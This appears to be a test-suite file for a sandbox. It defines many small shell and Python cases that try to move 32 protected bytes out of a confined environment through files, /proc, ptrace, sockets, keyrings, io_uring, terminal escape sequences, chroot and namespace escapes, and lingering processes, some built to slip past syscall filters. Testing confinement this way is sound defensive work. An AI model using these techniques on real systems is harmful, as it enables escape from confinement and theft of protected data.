"""Ways of carrying bytes of the view out, one function each.

A case is a script for /bin/sh or python3 that runs INSIDE. It may use

    V       the file of the view whose bytes must not leave
    C       its 32 bytes, read from V
    W       the work area: a folder of the view's, where writing is allowed
    T       a token that is part of every name outside
    D       a folder outside that anyone may write to: /tmp/esc-T
    PID, FD, ADDR, TTY, TCP, UDP ...   things of the runner, which is outside

and succeeds when the 32 bytes are found outside. What the inside says of
itself counts for nothing. Each case is run without confinement too and must
leak there: a case that cannot fail proves nothing. `root` marks those that
only root could do even then; `inbound` those where somebody outside looks in;
`control` names what the run without confinement has to prepare.
"""
# SPDX-License-Identifier: Apache-2.0

CASES = []


class Case:
    """One way out. kind: how the session is started (see run.py)."""

    def __init__(self, name, group, body, lang='sh', root=False, kind='tty',
                 inbound=False, control=None):
        self.name, self.group, self.body = name, group, body
        self.lang, self.root, self.kind = lang, root, kind
        self.inbound, self.control = inbound, control
        CASES.append(self)


def sh(name, group, body, **kw):
    Case(name, group, body, 'sh', **kw)


def py(name, group, body, **kw):
    Case(name, group, body, 'py', **kw)


# ---- files

for tool, cmd in {
        'cp': 'cp "$V" "$1"', 'tee': 'tee "$1" <"$V" >/dev/null',
        'tar': 'tar -C "${V%/*}" -cf "$1" "${V##*/}"',
        'dd': 'dd if="$V" of="$1" 2>/dev/null',
        'install': 'install -m 644 "$V" "$1"',
        'cat-append': 'cat "$V" >>"$1"',
        'gzip-stored': 'gzip -0 <"$V" >"$1"; cp "$V" "$1.plain"',
        'mv': 'cp "$V" /tmp/esc-$T.mv; mv /tmp/esc-$T.mv "$1"'}.items():
    sh(tool, 'files', f'set -- "$D/out"; {cmd}')
sh('dev-shm', 'files', 'cp "$V" /dev/shm/esc-$T')
sh('var-tmp', 'files', 'cp "$V" /var/tmp/esc-$T')
sh('tmp-afterwards', 'files', 'cp "$V" /tmp/esc-$T.left')
sh('run-afterwards', 'files', 'cp "$V" /run/esc-$T', root=True)
sh('home', 'files', 'cp "$V" "$OUTERHOME/esc-$T"')
sh('home-own', 'files', 'cd; cp "$V" "./esc-$T"')
sh('beside', 'files', 'cp "$V" "${V%/*}/esc-$T" || cp "$V" "./esc-$T"')
sh('file-name', 'files', 'touch "$D/$C"')
sh('link-target', 'files', 'ln -s "$C" "$D/link"')
sh('hard-link', 'files', 'ln "$V" "$D/hard"')
sh('symlink', 'files', 'ln -s "$V" "$D/sym"')
sh('xattr', 'files', 'python3 -c "import os,sys;'
   'os.setxattr(sys.argv[1], \'user.c\', sys.argv[2].encode())" "$D/any" "$C"')
sh('mkdir-names', 'files', 'mkdir -p "$D/d/$C"')
sh('python-mmap', 'files', '''python3 - "$V" "$D/out" <<'E'
import mmap, sys
a = open(sys.argv[1], 'rb'); b = open(sys.argv[2], 'w+b')
m = mmap.mmap(a.fileno(), 0, access=mmap.ACCESS_READ)
b.truncate(len(m)); n = mmap.mmap(b.fileno(), len(m)); n[:] = m[:]; n.flush()
E''')
py('sendfile', 'files', '''
a = os.open(V, os.O_RDONLY); b = os.open(D + '/out', os.O_WRONLY | os.O_CREAT)
os.sendfile(b, a, 0, 1000)''')
py('copy-file-range', 'files', '''
a = os.open(V, os.O_RDONLY); b = os.open(D + '/out', os.O_WRONLY | os.O_CREAT)
try:
    os.copy_file_range(a, b, 1000)
except OSError:
    os.write(b, os.read(a, 1000))''')

# ---- descriptors and streams

sh('stdout-file', 'streams', 'cat "$V"', kind='stdout-file')
sh('stdout-pipe', 'streams', 'cat "$V"', kind='stdout-pipe')
sh('stderr-file', 'streams', 'cat "$V" >&2', kind='stderr-file')
sh('stdin-rdwr', 'streams', 'cat "$V" >&0', kind='stdin-rdwr')
sh('all-pipes', 'streams', 'cat "$V"; cat "$V" >&2', kind='all-pipes')
sh('inherited-fd', 'streams', 'cat "$V" >&9', kind='fd9')
sh('inherited-fd-high', 'streams', 'cat "$V" >/proc/self/fd/777',
   kind='fd9')
sh('inherited-folder', 'streams', 'cat "$V" >/proc/self/fd/9/out',
   kind='fd9-folder')
py('inherited-socket', 'streams', '''
s = socket.socket(fileno=9); s.sendall(C)''', kind='fd9-socket')
py('stdin-socket', 'streams', '''
s = socket.socket(fileno=os.dup(0)); s.sendall(C)''', kind='stdin-socket')
sh('stdin-terminal', 'streams', 'cat "$V" >&0', kind='stdin-terminal')
sh('no-terminal', 'streams', 'cat "$V"; cat "$V" >/proc/self/fd/1',
   kind='no-terminal')
sh('other-terminal', 'streams', 'cat "$V" >"$TTY"')
sh('fifo', 'streams', 'timeout 2 cp "$V" "$D/fifo"')
sh('kmsg', 'streams', 'echo "$T$C" >/dev/kmsg', root=True)

# ---- the host's device nodes: their times and modes, not what they carry

def by_times(node):
    """All 32 letters as two times of one node."""
    return f'''
n = 0
for b in C:
    n = 26 * n + b - 97
os.utime({node}, ns=(n // 26 ** 16, n % 26 ** 16))'''


def by_mode(node, change):
    """Three bits at a time, the fourth ticks; said three times over."""
    return f'''
n = 0
for b in C:
    n = 26 * n + b - 97
for i in 3 * list(range({MODE_DIGITS})):
    d = n >> 3 * i & 7
    os.{change}({node}, 0o666 | (d & 4) << 4 | (d & 2) << 2 | d & 1 |
             (0o1000 if i & 1 else 0))
    time.sleep(0.02)'''


MODE_DIGITS = 52  # 26 ** 32 < 8 ** 52; even, so that the tick goes on
py('device-times', 'devices', by_times("'/dev/full'"), root=True,
   kind='node-full')
py('device-mode', 'devices', by_mode("'/dev/full'", 'chmod'), root=True,
   kind='node-full')
py('stream-times', 'devices', by_times(0), root=True, kind='node-null')
py('stream-mode', 'devices', by_mode(0, 'fchmod'), root=True,
   kind='node-null')

# ---- /proc

sh('proc-1-root', 'proc', 'cp "$V" "/proc/1/root$D/out"', control='own-pids')
sh('proc-ppid-root', 'proc', 'cp "$V" "/proc/$PPID/root$D/out"')
sh('proc-pid-root', 'proc', 'cp "$V" "/proc/$PID/root$D/out"')
sh('proc-pid-cwd', 'proc', 'cp "$V" "/proc/$PID/cwd/out"')
sh('proc-pid-fd', 'proc', 'cat "$V" >"/proc/$PID/fd/$FD"')
sh('proc-dotdot', 'proc', 'cp "$V" "/../../..$D/out"')
py('proc-mem', 'proc', '''
fd = os.open(f'/proc/{PID}/mem', os.O_WRONLY); os.pwrite(fd, C, ADDR)''')
sh('sysctl-domainname', 'proc', 'echo "$C" >/proc/sys/kernel/domainname',
   root=True)
sh('sethostname', 'proc', 'domainname "$C" || python3 -c "import ctypes,sys;'
   'c=sys.argv[1].encode();ctypes.CDLL(None).setdomainname(c,len(c))" "$C"',
   root=True)
sh('core-pattern', 'proc', 'echo "$C" >/proc/sys/kernel/core_pattern',
   root=True)
py('ptrace', 'proc', '''
l = ctypes.CDLL(None, use_errno=True); l.ptrace.restype = ctypes.c_long
l.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p,
                     ctypes.c_void_p]
assert l.ptrace(16, VICTIM, None, None) == 0
os.waitpid(VICTIM, 0x40000000)
for i in range(0, 32, 8):
    l.ptrace(5, VICTIM, VADDR + i, int.from_bytes(C[i:i + 8], 'little'))
l.ptrace(17, VICTIM, None, None)''')
py('process-vm-writev', 'proc', '''
class V2(ctypes.Structure):
    _fields_ = [('p', ctypes.c_void_p), ('n', ctypes.c_size_t)]
b = ctypes.create_string_buffer(C, 32)
a, r = V2(ctypes.addressof(b), 32), V2(ADDR, 32)
ctypes.CDLL(None).process_vm_writev(PID, ctypes.byref(a), 1, ctypes.byref(r),
                                    1, 0)''')
py('pidfd-getfd', 'proc', '''
p = os.pidfd_open(PID); fd = ctypes.CDLL(None).syscall(438, p, FD, 0)
assert fd >= 0; os.write(fd, C)''')

py('prlimit', 'proc', '''
import resource as r
for i, w in enumerate((r.RLIMIT_FSIZE, r.RLIMIT_DATA, r.RLIMIT_RSS,
                       r.RLIMIT_AS, 10)):
    n = int.from_bytes(C.ljust(35, b'\\0')[7 * i:7 * i + 7], 'little')
    r.prlimit(VICTIM, w, (n, r.RLIM_INFINITY))''')
sh('sys-ifalias', 'proc', 'echo "$C" >/sys/class/net/lo/ifalias', root=True)
sh('cgroup-name', 'proc', 'mkdir "/sys/fs/cgroup/unified/esc-$T-$C" || '
   'mkdir "/sys/fs/cgroup/esc-$T-$C"', root=True)

# ---- sockets

py('tcp', 'sockets', '''
s = socket.create_connection(('127.0.0.1', TCP), 2); s.sendall(C)''')
py('tcp6', 'sockets', '''
s = socket.create_connection(('::1', TCP6), 2); s.sendall(C)''')
py('udp', 'sockets', '''
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(C, ('127.0.0.1', UDP))''')
py('udp-any-interface', 'sockets', '''
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(C, (HOSTIP, UDP))''')
py('unix-stream', 'sockets', '''
s = socket.socket(socket.AF_UNIX); s.connect(D + '/stream'); s.sendall(C)''')
py('unix-datagram', 'sockets', '''
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(C, D + '/dgram')''')
py('unix-abstract', 'sockets', '''
s = socket.socket(socket.AF_UNIX); s.connect('\\0esc-' + T); s.sendall(C)''')
py('unix-abstract-dgram', 'sockets', '''
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(C, '\\0escd-' + T)''')
py('scm-rights', 'sockets', '''
s = socket.socket(socket.AF_UNIX); s.connect('\\0esc-' + T)
fd = os.memfd_create('m'); os.write(fd, C)
socket.send_fds(s, [b'memfd'], [fd])''')
py('vsock', 'sockets', '''
s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(2)
s.connect((1, VSOCK)); s.sendall(C)''')
py('netlink', 'sockets', '''
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 2); s.bind((0, 0))
s.sendto((48).to_bytes(4, 'little') + bytes(12) + C, (NETLINK, 0))''')
py('raw-ip', 'sockets', '''
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
s.sendto(C, ('127.0.0.1', 0))''', root=True)
py('packet', 'sockets', '''
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind(('lo', 0x88b5)); s.send(bytes(12) + b'\\x88\\xb5' + C)''', root=True)
py('udp6', 'sockets', '''
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.sendto(C, ('::1', UDP6))''')
py('mptcp', 'sockets', '''
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
s.settimeout(2); s.connect(('127.0.0.1', MPTCP)); s.sendall(C)''')
py('multicast', 'sockets', '''
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
             socket.inet_aton('127.0.0.1'))
s.sendto(C, ('239.255.77.77', GROUP))''')
py('ping', 'sockets', '''
# An echo request carries 32 bytes of anything.
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
h = b'\\x08\\0\\0\\0\\0\\x01\\0\\x01' + C
n = sum(int.from_bytes(h[i:i + 2], 'big') for i in range(0, 40, 2))
n = ~((n & 0xffff) + (n >> 16)) & 0xffff
s.sendto(h[:2] + n.to_bytes(2, 'big') + h[4:], ('127.0.0.1', 0))''',
   root=True)
FAMILIES = '''
held = []
for f in range(64):
    for t in (1, 2, 3, 4, 5, 10):
        for flag in (0, 1 << 32, 1 << 31):  # a filter may look at 64 bits
            fd = ctypes.CDLL(None).syscall(41, ctypes.c_ulong(f | flag), t, 0)
            if fd >= 0:
                held.append(fd)
time.sleep(1.5)'''
# Which families can be had is seen from outside, by taking the sockets.
py('every-family', 'sockets', FAMILIES, kind='families')
py('vsock-socket', 'sockets', FAMILIES, kind='families')
py('listen', 'sockets', '''
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', LISTEN)); s.listen(); s.settimeout(3)
try:
    c, _ = s.accept(); c.sendall(C); time.sleep(0.2)
except OSError:
    pass''')

# ---- ipc and keys

py('sysv-shm', 'ipc', '''
l = ctypes.CDLL(None, use_errno=True); l.shmat.restype = ctypes.c_void_p
l.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
i = l.shmget(KEY, 4096, 0o1666); ctypes.memmove(l.shmat(i, None, 0), C, 32)''')
py('sysv-msg', 'ipc', '''
l = ctypes.CDLL(None, use_errno=True); i = l.msgget(KEY, 0o1666)
b = ctypes.create_string_buffer((1).to_bytes(8, 'little') + C)
l.msgsnd(i, b, 32, 0o4000)''')
py('sysv-sem', 'ipc', '''
l = ctypes.CDLL(None, use_errno=True); i = l.semget(KEY, 32, 0o1666)
for n in range(32):
    l.semctl(i, n, 16, ctypes.c_int(C[n]))''')
py('signal-values', 'ipc', '''
l = ctypes.CDLL(None)
for i in range(0, 32, 4):
    l.sigqueue(PID, SIG, ctypes.c_void_p(int.from_bytes(C[i:i + 4],
                                                        'little')))''')
py('posix-mq', 'ipc', '''
l = ctypes.CDLL('librt.so.1', use_errno=True)
m = l.mq_open(('/esc-' + T).encode(), 0o102, 0o666, None)
l.mq_send(m, C, 32, 0)''')
py('key-user', 'ipc', '''
print(ctypes.CDLL(None).syscall(248, b'user', ('esc-' + T).encode(), C, 32,
                                ctypes.c_int(-4)))''')
py('key-session', 'ipc', '''
print(ctypes.CDLL(None).syscall(248, b'user', ('esc-' + T).encode(), C, 32,
                                ctypes.c_int(-3)))''')
py('key-user-session', 'ipc', '''
ctypes.CDLL(None).syscall(248, b'user', ('esc-' + T).encode(), C, 32,
                          ctypes.c_int(-5))''')
py('key-persistent', 'ipc', '''
l = ctypes.CDLL(None); k = l.syscall(250, 22, os.getuid(), ctypes.c_int(-2))
l.syscall(248, b'user', ('esc-' + T).encode(), C, 32, k)''')
py('key-name', 'ipc', '''
ctypes.CDLL(None).syscall(248, b'user', f'esc-{T}-'.encode() + C, b'x', 1,
                          ctypes.c_int(-4))''')
py('key-update', 'ipc', '''
l = ctypes.CDLL(None)
k = l.syscall(250, 10, ctypes.c_int(-4), b'user', f'esc-up-{T}'.encode(), 0)
assert k > 0; l.syscall(250, 2, k, C, 32)''')
py('key-int80', 'ipc', '''
# add_key (286) by int 0x80: a filter for one ABI misses it. 32-bit pointers.
import mmap
l = ctypes.CDLL(None); l.mmap.restype = ctypes.c_void_p
l.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + \\
    [ctypes.c_long]
p = l.mmap(None, 4096, 7, 0x62, -1, 0)
d = b'user\\0'.ljust(16, b'\\0') + ('esc-' + T).encode().ljust(48, b'\\0') + C
ctypes.memmove(p + 1024, d, len(d))
e = lambda n: (n & 0xffffffff).to_bytes(4, 'little')
c = b'\\x53\\x56\\x57' + b'\\xb8' + e(286) + b'\\xbb' + e(p + 1024) + b'\\xb9' + \\
    e(p + 1040) + b'\\xba' + e(p + 1088) + b'\\xbe' + e(32) + b'\\xbf' + \\
    e(-4) + b'\\xcd\\x80' + b'\\x5f\\x5e\\x5b\\xc3'
ctypes.memmove(p, c, len(c)); ctypes.CFUNCTYPE(ctypes.c_int)(p)()''')
py('io-uring', 'ipc', '''
# One SEND by io_uring: no system call filter sees what it does.
l = ctypes.CDLL(None, use_errno=True)
prm = (ctypes.c_uint32 * 30)(); fd = l.syscall(425, 4, ctypes.byref(prm))
assert fd >= 0
import mmap
sq = mmap.mmap(fd, prm[10 + 6] + 64, offset=0)
se = mmap.mmap(fd, 4 * 64, offset=0x10000000)
s = socket.socket(socket.AF_UNIX); s.connect('\\0esc-' + T)
b = ctypes.create_string_buffer(C, 32)
q = bytearray(64); q[0] = 26; q[4:8] = s.fileno().to_bytes(4, 'little')
q[16:24] = ctypes.addressof(b).to_bytes(8, 'little')
q[24:28] = (32).to_bytes(4, 'little'); se[0:64] = bytes(q)
arr, tail = prm[16], prm[11]
sq[arr:arr + 4] = bytes(4); sq[tail:tail + 4] = (1).to_bytes(4, 'little')
l.syscall(426, fd, 1, 1, 1, None, 0); time.sleep(0.2)''')

# ---- namespaces and mounts

sh('nsenter', 'mounts', 'nsenter -t "$PID" -m cp "$V" "$D/out" || '
   'nsenter -t "$PID" -m sh -c "echo $C >$D/out"', root=True)
sh('mount-bind', 'mounts', 'mkdir -p /tmp/esc-$T.m && '
   'mount --bind "$D" /tmp/esc-$T.m && cp "$V" /tmp/esc-$T.m/out; '
   'umount -l /tmp/esc-$T.m', root=True)
sh('unshare-user', 'mounts', 'unshare -Ur sh -c "cp $V $D/out"')
py('chroot-out', 'mounts', '''
os.makedirs('/tmp/esc-' + T + '.c', exist_ok=True)
d = os.open('/', os.O_RDONLY); os.chroot('/tmp/esc-' + T + '.c'); os.fchdir(d)
for _ in range(20):
    os.chdir('..')
os.chroot('.'); open(D + '/out', 'wb').write(C)''', root=True)
sh('block-device', 'mounts', 'mknod /tmp/esc-$T.b b "$LOOP" 0 2>/dev/null; '
   'for d in /tmp/esc-$T.b "$LOOPDEV"; do dd if="$V" of="$d" conv=sync '
   'oflag=sync 2>/dev/null; done; rm -f /tmp/esc-$T.b', root=True, kind='loop')

py('open-by-handle', 'mounts', '''
# A handle names a folder of the host by number: no path is needed.
m = os.open('/usr', os.O_RDONLY); h = ctypes.create_string_buffer(
    bytes.fromhex(HANDLE), 136)
fd = ctypes.CDLL(None).syscall(304, m, h, os.O_RDONLY | os.O_DIRECTORY)
assert fd >= 0
os.write(os.open('out', os.O_WRONLY | os.O_CREAT, dir_fd=fd), C)''', root=True)
py('mount-api', 'mounts', '''
l = ctypes.CDLL(None, use_errno=True)
if os.getuid() != 0:
    assert l.unshare(0x10020000) == 0
fd = l.syscall(428, -100, D.encode(), 1 | os.O_CLOEXEC)
assert fd >= 0
os.write(os.open('out', os.O_WRONLY | os.O_CREAT, dir_fd=fd), C)''')
py('setns-mounts', 'mounts', '''
l = ctypes.CDLL(None); assert l.setns(os.pidfd_open(PID), 0x20000) == 0
open(D + '/out', 'wb').write(C)''', root=True)
py('setns-network', 'mounts', '''
l = ctypes.CDLL(None); assert l.setns(os.pidfd_open(PID), 0x40000000) == 0
s = socket.create_connection(('127.0.0.1', TCP), 2); s.sendall(C)''', root=True)
sh('usr-writable', 'mounts', 'mount -o remount,bind,rw /usr; '
   'cp "$V" /usr/esc-$T', root=True)

# ---- core dumps

sh('core-file', 'cores', 'cd "$D"; ulimit -c unlimited; '
   'python3 -c "import os,sys;c=sys.argv[1]*9;os.abort()" "$C"', root=True,
   kind='core-file')
sh('core-pipe', 'cores',
   'python3 -c "import os,sys;c=sys.argv[1]*9;os.abort()" "$C"', root=True,
   kind='core-pipe')
sh('core-pipe-no-limit', 'cores', 'ulimit -c 0; '
   'python3 -c "import os,sys;c=sys.argv[1]*9;os.abort()" "$C"', root=True,
   kind='core-pipe')

# ---- the terminal

TIOCSTI = '''
import fcntl
for b in C:
    fcntl.ioctl(0, REQ, bytes([b]))'''
py('tiocsti', 'terminal', TIOCSTI.replace('REQ', '0x5412'))
py('tiocsti-high-bits', 'terminal', '''
l = ctypes.CDLL(None)
for b in C:
    l.syscall(16, 0, ctypes.c_ulong(0x100005412),
              ctypes.byref(ctypes.c_char(b)))''')
sh('osc-52', 'terminal', "printf '\\033]52;c;%s\\a' $(base64 -w0 <\"$V\")")
sh('osc-52-st', 'terminal',
   "printf '\\033]52;c;%s\\033\\\\' $(base64 -w0 <\"$V\")")
sh('osc-52-c1', 'terminal',
   "printf '\\23552;c;%s\\a' $(base64 -w0 <\"$V\")")
sh('osc-52-c1-utf8', 'terminal',
   "printf '\\302\\23552;c;%s\\a' $(base64 -w0 <\"$V\")")
sh('osc-52-latin1', 'terminal',
   "printf '\\033%%@\\303\\23552;c;%s\\a' $(base64 -w0 <\"$V\")")
sh('osc-52-cut', 'terminal', "printf '\\033'; sleep 0.1; printf ']5'; "
   "sleep 0.1; printf '2;c;%s\\a' $(base64 -w0 <\"$V\")")
sh('osc-1337-file', 'terminal',
   "printf '\\033]1337;File=inline=0:%s\\a' $(base64 -w0 <\"$V\")")
sh('osc-title', 'terminal', 'printf "\\033]2;$C\\a"')
sh('dcs-tmux', 'terminal',
   "printf '\\033Ptmux;\\033\\033]52;c;%s\\a\\033\\\\' $(base64 -w0 <\"$V\")")
sh('apc', 'terminal', 'printf "\\033_$C\\033\\\\"')
sh('media-copy', 'terminal', 'printf "\\033[5i$C\\033[4i"')
sh('window-report', 'terminal', 'printf "$C\\033[21t\\033[8;9;9t"')
sh('status-report', 'terminal', 'printf "$C\\033[5n\\033[6n"')
sh('log-to-file', 'terminal', 'printf "\\033[?46h$C\\033[?46l"')
sh('vt52-print', 'terminal', 'printf "\\033[?2l\\033W$C\\033X"')

for name, seq in {
        'dcs-c1': '\\220q$C\\234', 'apc-c1': '\\237G$C\\234',
        'pm': '\\033^$C\\033\\\\', 'pm-c1': '\\236$C\\234',
        'sos': '\\033X$C\\033\\\\', 'sos-c1': '\\230$C\\234',
        'media-copy-c1': '\\2335i$C\\2334i',
        'title-of-screen': '\\033k$C\\033\\\\',
        'sixel': '\\033Pq#0;2;0;0;0$C\\033\\\\',
        'answerback': '$C\\005',
        'hyperlink': '\\033]8;;http://x/$C\\033\\\\x\\033]8;;\\033\\\\',
        'osc-in-character': '\\342\\033]52;c;$C\\a',
        'osc-after-can': '\\033[\\030\\033]52;c;$C\\a',
        'osc-overlong': '\\340\\202\\23552;c;$C\\a',
        'osc-in-csi': '\\033[5\\033]52;c;$C\\a'}.items():
    sh(name, 'terminal', f'printf "{seq}"')
sh('osc-c1-cut', 'terminal', "printf '\\302'; sleep 0.1; "
   "printf '\\23552;c;%s\\a' $(base64 -w0 <\"$V\")")
sh('osc-after-flood', 'terminal', "head -c 200000 /dev/zero | tr '\\0' 'x'; "
   "printf '\\033]52;c;%s\\a' $(base64 -w0 <\"$V\")")

# ---- the work area: what is written there is kept, sealed, and nowhere else

for name, body in {
        'plain': 'cp "$V" "$W/esc-$T"', 'name': 'mkdir "$W/esc-$T-$C"',
        'xattr': 'echo >"$W/esc-$T"; python3 -c "import os,sys;os.setxattr('
                 'sys.argv[1],\'user.c\',sys.argv[2].encode())" "$W/esc-$T" '
                 '"$C"',
        'link-target': 'ln -s "$C" "$W/esc-$T.l"',
        'symlink-out': 'ln -s "$D" "$W/esc-$T.d"; cp "$V" "$W/esc-$T.d/out"',
        'dotdot': 'cp "$V" "$W/../../../../../../..$D/out"',
        'setuid': 'cp "$V" "$W/esc-$T.s"; chmod 6755 "$W/esc-$T.s"',
        'hard-link': 'ln "$V" "$W/esc-$T.h"',
        'rename': 'mv "$V" "$W/esc-$T.mv"'}.items():
    sh('work-' + name, 'work', body)
sh('work-symlink-proc', 'work', 'ln -s "/proc/1/root$D" "$W/esc-$T.p"; '
   'cp "$V" "$W/esc-$T.p/out"', control='own-pids')
sh('work-fifo', 'work', 'mkfifo "$W/esc-$T.fifo" && '
   'timeout 2 cp "$V" "$W/esc-$T.fifo"', kind='peer')
py('work-socket', 'work', '''
s = socket.socket(socket.AF_UNIX); s.bind(W + '/esc-' + T + '.sock')
s.listen(); s.settimeout(2); c, _ = s.accept(); c.sendall(C)
time.sleep(0.2)''', kind='peer')
sh('work-device', 'work', 'mknod "$W/esc-$T.b" b "$LOOP" 0 && dd if="$V" '
   'of="$W/esc-$T.b" conv=sync oflag=sync 2>/dev/null; rm -f "$W/esc-$T.b"',
   root=True, kind='loop')
sh('work-mount', 'work', 'mount --bind "$D" "$W" && cp "$V" "$W/out"; '
   'umount -l "$W"', root=True)
py('work-mapped', 'work', '''
import mmap
f = open(W + '/esc-' + T, 'w+b'); f.truncate(4096)
m = mmap.mmap(f.fileno(), 4096); m[100:132] = C; m.flush()''')

# ---- processes that stay

sh('survive', 'processes', 'setsid -f python3 -c "import time;'
   'time.sleep(60)" esc-$T "$C" </dev/null >/dev/null 2>&1; sleep 0.3',
   kind='after')
sh('survive-nohup', 'processes',
   'nohup python3 -c "import time;time.sleep(60)" esc-$T "$C" '
   '>/dev/null 2>&1 & sleep 0.3', kind='after')
sh('survive-kill', 'processes',
   'trap "" HUP TERM INT; python3 -c "import time,signal;'
   'signal.signal(1,signal.SIG_IGN);time.sleep(60)" esc-$T "$C"', kind='kill')
sh('survive-stopped', 'processes', '(trap "" HUP; exec python3 -c "import os;'
   'os.kill(os.getpid(), 19)" esc-$T "$C") </dev/null >/dev/null 2>&1 & '
   'sleep 0.3', kind='after')
py('survive-orphan', 'processes', '''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3):
            os.dup2(os.open('/dev/null', os.O_RDWR), fd)
        os.execv('/usr/bin/python3', ['python3', '-c',
                 'import time; time.sleep(60)', 'esc-' + T, C.decode()])
    os._exit(0)
time.sleep(0.3)''', kind='after')

# ---- inbound: somebody outside, with the same uid, looks in

LOOKED_AT = '''
f = open(V, 'rb'); time.sleep(2.5)'''
for name in ('in-nsenter', 'in-adopted', 'in-root', 'in-memory', 'in-descriptor'):
    py(name, 'inbound', LOOKED_AT, kind=name, inbound=True)
py('thread-names', 'inbound', '''
import threading
def live(i):
    ctypes.CDLL(None).prctl(15, b'%02d-' % i + C[12 * i:12 * i + 12])
    time.sleep(1.5)
for i in range(3):
    threading.Thread(target=live, args=(i,)).start()''', kind='names',
   inbound=True)
py('file-locks', 'inbound', '''
import fcntl
f = open('/usr/bin/env', 'rb')
for i in range(5):
    n = int.from_bytes(C[7 * i:7 * i + 7], 'little')
    fcntl.lockf(f, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, (i << 56) + n)
time.sleep(1.5)''', kind='locks', inbound=True)
sh('argv', 'inbound', 'python3 -c "import time;time.sleep(1)" esc-$T "$C"',
   kind='during', inbound=True)
